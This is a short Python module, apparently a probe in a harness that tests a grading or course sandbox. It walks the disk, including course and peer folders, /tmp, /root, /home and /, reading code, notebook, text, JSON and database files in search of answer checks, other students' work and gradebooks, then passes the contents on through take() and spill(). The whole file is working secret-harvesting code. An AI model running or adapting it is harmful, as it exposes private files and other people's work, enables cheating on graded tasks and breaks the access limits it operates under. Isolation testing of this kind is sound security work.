"""Walks the whole disk for checks, answers, peers and gradebooks."""

GROUP = "secrets"
import os
import time

end = time.time() + 0.6
for top in (KNOWN["course"], KNOWN["outside"], os.path.dirname(KNOWN["peer"]), "/tmp", "/root", "/home", "/"):
    for folder, _, names in os.walk(top, onerror=lambda error: None):
        for name in names:
            if name.endswith((".py", ".ipynb", ".txt", ".json", ".db")) and not folder.startswith(
                ("/usr", "/proc", "/sys")
            ):
                try:
                    take(open(os.path.join(folder, name), "rb").read(200_000))
                except OSError:
                    pass
        if time.time() > end:
            break
spill()
